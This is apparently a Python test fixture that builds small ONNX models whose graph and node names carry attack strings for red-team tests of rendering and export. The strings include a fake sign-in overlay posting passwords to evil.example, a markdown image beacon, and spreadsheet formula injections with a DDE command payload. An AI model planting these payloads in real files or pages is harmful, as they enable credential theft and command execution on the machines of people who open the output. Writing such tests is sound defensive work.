"""Models whose every name field is an attack string, for the render, formula and output red-team tests.

The strings are the ones the targeted review used: an HTML overlay with a form posting elsewhere, a
markdown image beacon to a loopback port, streamlit directives and LaTeX, spreadsheet formulas (DDE
included), and terminal control characters (an ANSI colour, BEL, CR).
"""

from __future__ import annotations

import numpy as np
from onnx import TensorProto, helper, numpy_helper

OVERLAY = (
    "<div style=position:fixed;inset:0;background:#fff>Session expired: sign in again"
    "<form action=http://evil.example/steal><input name=password type=password></form></div>"
)
BEACON = "![b](http://127.0.0.1:9/beacon.png)"
DIRECTIVES = ":red[alarm] $x^2$ [link](http://evil.example)"
FORMULAS = ('=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1")
CONTROLS = "\x07bell\x1b[31mred"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_model(
    graph_name: str = OVERLAY + BEACON,
    names: tuple[str, ...] = (BEACON, DIRECTIVES, OVERLAY),
    op_type: str = BEACON,
    dim: str = "batch",
) -> bytes:
    """A small MatMul -> Relu -> ... chain on a free `dim`, each node named from `names`, one node of an
    unknown op type `op_type` (it shows up in the unmodeled warning)."""
    weight = numpy_helper.from_array(np.ones((64, 64), np.float32), "w")
    nodes, prev = [], "x"
    for i, name in enumerate(names):
        out = f"t{i}"
        op = ("MatMul", "Relu")[i % 2]
        nodes.append(helper.make_node(op, [prev, "w"] if op == "MatMul" else [prev], [out], name=name))
        prev = out
    nodes.append(helper.make_node(op_type, [prev], ["y"], name=names[0] + " unmodeled", domain="hostile.example"))
    graph = helper.make_graph(
        nodes,
        graph_name,
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [dim, 64])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [dim, 64])],
        [weight],
    )
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("hostile.example", 1)]
    )
    return model.SerializeToString()


def formula_model() -> bytes:
    """Node names and the graph name carrying every formula start and control characters."""
    names = tuple(f"{f}{CONTROLS}" if i % 2 else f for i, f in enumerate(FORMULAS))
    return hostile_model(graph_name=FORMULAS[0] + CONTROLS, names=names, op_type="Evil" + CONTROLS)
